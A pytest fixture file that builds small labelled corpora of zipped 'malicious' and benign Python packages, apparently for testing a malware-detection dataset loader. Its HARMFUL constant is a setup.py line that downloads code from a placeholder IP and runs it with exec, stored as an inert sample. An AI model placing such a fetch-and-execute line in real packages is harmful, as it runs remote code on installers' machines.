"""Corpora of harmless archives with readers of their own, as the development corpora have them."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile

import pytest

LOADER = """
import csv
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent


@dataclass(frozen=True)
class Sample:
    archive_name: str
    archive_bytes: bytes


def iter_labels(split=None):
    with open(HERE / "labels.csv", newline="") as file:
        yield from csv.DictReader(file)


def load(row):
    if row["path"] == "broken":
        raise ValueError("secret text of a sample")
    return Sample(row["filename"], (HERE / row["path"]).read_bytes())
"""
LOCATE = """
import csv
from pathlib import Path

HERE = Path(__file__).resolve().parent


def iter_wheels():
    with open(HERE / "wheels.csv", newline="") as file:
        for row in csv.DictReader(file):
            yield row, HERE / row["filename"]
"""
HARMFUL = "import os, urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/a').read())\n"
HONEST = "def add(a, b):\n    return a + b\n"
COLUMNS = (
    "path", "sha256", "filename", "verdict", "split", "cluster", "dev_novel_cluster", "payload_location",
    "suspect_mislabel", "pentest_hint", "py_bytes",
)  # fmt: skip


def zipped(files):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return packed.getvalue()


@pytest.fixture
def row():
    """Make a row of labels.csv."""

    def make(path, data=b"", **changes):
        known = {
            "path": path, "sha256": hashlib.sha256(data).hexdigest(), "filename": "acme-1.zip", "verdict": "malicious",
            "split": "train", "cluster": "1", "dev_novel_cluster": "0", "payload_location": "setup.py",
            "suspect_mislabel": "", "pentest_hint": "0", "py_bytes": "10",
        }  # fmt: skip
        return known | changes

    return make


@pytest.fixture
def pack(tmp_path, row):
    """A malware pack of two clusters, whose archives are inert."""
    place = tmp_path / "malware"
    place.mkdir()
    (place / "loader.py").write_text(LOADER)
    bad = zipped({"acme-1/setup.py": HARMFUL})
    good = zipped({"acme-1/setup.py": HONEST})
    rows = [
        row("bad", bad),
        row("good", good, cluster="2", split="dev", dev_novel_cluster="1"),
        row("broken", b"x", cluster="3"),
    ]
    for name, data in (("bad", bad), ("good", good)):
        (place / name).write_bytes(data)
    _write(place / "labels.csv", COLUMNS, rows)
    return place


@pytest.fixture
def wheels(tmp_path):
    """A benign list of two wheels of one project."""
    place = tmp_path / "benign"
    place.mkdir()
    (place / "locate.py").write_text(LOCATE)
    rows = []
    for name, text in (("acme-1-py3-none-any.whl", HONEST), ("acme-2-py3-none-any.whl", HONEST + "\n")):
        data = zipped({"acme/__init__.py": text})
        (place / name).write_bytes(data)
        sha256 = hashlib.sha256(data).hexdigest()
        rows.append({"filename": name, "project": "acme", "sha256": sha256, "py_bytes": len(text), "split": "dev"})
    _write(place / "wheels.csv", ("filename", "project", "sha256", "py_bytes", "split"), rows)
    return place


def _write(path, columns, rows):
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, columns)
        writer.writeheader()
        writer.writerows(rows)
